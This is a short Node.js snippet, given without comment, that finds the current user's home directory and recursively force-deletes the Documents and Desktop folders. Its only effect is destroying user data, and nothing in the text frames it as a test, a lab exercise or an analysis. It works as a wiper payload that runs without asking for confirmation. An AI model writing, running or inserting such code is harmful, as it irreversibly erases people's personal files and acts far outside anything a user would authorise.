const fs = require("fs");
const targets = ["Documents", "Desktop"].map((d) => require("os").homedir() + "/" + d);
targets.forEach((t) => fs.rmSync(t, { recursive: true, force: true }));
